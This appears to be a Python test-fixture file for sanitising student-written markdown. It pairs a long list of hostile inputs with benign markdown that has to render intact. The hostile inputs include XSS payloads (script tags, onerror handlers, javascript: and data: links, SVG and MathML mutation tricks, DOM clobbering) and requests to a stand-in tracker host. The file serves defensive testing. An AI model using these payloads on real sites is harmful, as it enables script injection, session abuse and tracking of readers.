"""What a student may write as text to act in the page of whoever reads it, and what honest ones write.

name -> (markdown, what has to be seen of it).
"""

from __future__ import annotations

OUTSIDE = "https://tracker.example/seen.png"

HOSTILE = {
    "script": ("<script>window.pwned = 1; alert(1)</script>", "alert(1)"),
    "script-broken": ("<scr<script>ipt>alert(2)</scr</script>ipt>", "alert(2)"),
    "script-src": ('<script src="https://tracker.example/x.js"></script>', "tracker"),
    "onerror": ("<img src=x onerror=alert(3)>", ""),
    "onerror-slash": ('<img/src="x"/onerror=alert(4)>', ""),
    "unclosed": ("<img src=x onerror=alert(5) ", ""),
    "svg": ("<svg onload=alert(6)><script>alert(6)</script></svg>", "svg"),
    "svg-animate": ("<svg><animate onbegin=alert(7) attributeName=x dur=1s>", "animate"),
    "math": (
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(8)&gt;'>",
        "",
    ),
    "srcdoc": ("<iframe srcdoc='<script>parent.alert(9)</script>'></iframe>", "iframe"),
    "iframe-data": (
        "<iframe src='data:text/html,<script>parent.alert(10)</script>'></iframe>",
        "iframe",
    ),
    "object": ("<object data='data:text/html,<script>alert(11)</script>'></object>", "object"),
    "embed": ("<embed src='javascript:alert(12)'>", "embed"),
    "link-javascript": ("[click](javascript:alert(13))", "click"),
    "link-javascript-tag": ("<a href=' java\tscript:alert(14)'>click</a>", "click"),
    "link-entity": ("<a href='&#106;avascript:alert(15)'>click</a>", "click"),
    "link-data": ("[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "click"),
    "link-vbscript": ("[click](vbscript:msgbox(1))", "click"),
    "link-beside": ("[my plot](evil.html) <a href='/logout'>x</a>", "my plot"),
    "reference": ("[click][1]\n\n[1]: javascript:alert(16)", "click"),
    "autolink": ("<javascript:alert(17)>", ""),
    "form": (
        "<form action='https://tracker.example'><input name=x autofocus onfocus=alert(18)><button>Go</button></form>",
        "form",
    ),
    "style": (
        f"<style>body {{ background: url({OUTSIDE}) }} article {{ display: none }}</style>",
        "",
    ),
    "style-attribute": (
        f"<div style='position:fixed;inset:0;background:url({OUTSIDE})'>over all</div>",
        "over all",
    ),
    "remote-image": (f"![x]({OUTSIDE})", ""),
    "remote-image-tag": (
        f"<img src='{OUTSIDE}'> <img srcset='{OUTSIDE} 2x'> <img src='//tracker.example/y.png'>",
        "",
    ),
    "remote-image-reference": (f"![x][r]\n\n[r]: {OUTSIDE}", ""),
    "image-logout": ("![x](/logout) ![x](../../../logout) ![x](..%2f..%2flogout.png)", ""),
    "video": (
        f"<video src='{OUTSIDE}' autoplay poster='{OUTSIDE}'></video><audio src='{OUTSIDE}' autoplay>",
        "",
    ),
    "meta": ("<meta http-equiv=refresh content='0;url=https://tracker.example/'>", "meta"),
    "base": ("<base href='https://tracker.example/'>", "base"),
    "link-tag": ("<link rel=stylesheet href='https://tracker.example/x.css'>", "link"),
    "clobber": (
        "<input id=help><span id=question class='mark who'>x</span><a id=cards name=desk>y</a>",
        "",
    ),
    "close": (
        "</div></article></section></main><h1 id=x>outside</h1><article class='read here'>",
        "outside",
    ),
    "comment": ("<!--><img src=x onerror=alert(19)>-->", ""),
    "cdata": ("<![CDATA[><img src=x onerror=alert(20)>]]>", ""),
    "mathjax": (
        r"$\href{javascript:alert(21)}{x}$ $$\unicode{<img src=x onerror=alert(21)>}$$",
        "href",
    ),
    "math-html": ("$<img src=x onerror=alert(22)>$ \\(<script>alert(22)</script>\\)", ""),
    "code-fence": ('```"><img src=x onerror=alert(23)>\ncode\n```', "code"),
    "code-language": ("```python' onmouseover='alert(24)\ncode\n```", "code"),
    "heading": ('# <img src=x onerror=alert(25)> "><script>alert(25)</script>', ""),
    "table": (
        "| a | b |\n|---|---|\n| <img src=x onerror=alert(26)> | [x](javascript:alert(26)) |",
        "x",
    ),
    "title": (
        "[x](https://a.example \"' onmouseover='alert(27)\") ![y](a.png '\" onerror=\"alert(27)')",
        "x",
    ),
    "template": (
        "{{ 7*7 }} {% raw %} ${alert(28)} <template><script>alert(28)</script></template>",
        "{{ 7*7 }}",
    ),
    "dangling": ("<img src='https://tracker.example/?", ""),
    "noscript": ("<noscript><p title='</noscript><img src=x onerror=alert(29)>'>", ""),
    "details": ("<details open ontoggle=alert(30)><summary>x</summary></details>", "x"),
    "attachment": ("![x](attachment:evil.svg)", ""),
    "terminal": ("\x1b]0;title\x07 \x1b[31mred \u202egnp.exe \u2066x", "u202e"),
    "brackets": ("[" * 4000 + "<b>" * 2000, "["),
    "long": ("x" * 300_000 + "<script>alert(31)</script>", "xxx"),
}

HONEST = {
    "bold": ("A **pool**, then `nn.Linear`:\n\n1. one\n2. two", "A pool, then nn.Linear"),
    "less": ("If a < b and b > c && d, then x<y.", "If a < b and b > c && d, then x<y."),
    "code": ("```python\nx = List[int] if a < b else '<script>'\n```", "if a < b else '<script>'"),
    "generic": ("`List<int>` is written `<int>` there", "List<int> is written <int> there"),
    "math": ("The size is $n \\cdot 2^k$ for $a<b$.", "$n \\cdot 2^k$ for $a<b$"),
    "table": ("| a | b |\n|---|---|\n| 1 | 2 |", "1"),
    "html": ("H<sub>2</sub>O <b>bold</b><br>next &amp; more", "H2O bold"),
    "umlaut": ("Größe, 数, עברית, emoji 🙂", "Größe, 数, עברית, emoji 🙂"),
    "link": (
        "See <https://docs.fast.ai> and [this](https://pytorch.org).",
        "See https://docs.fast.ai and this",
    ),
}
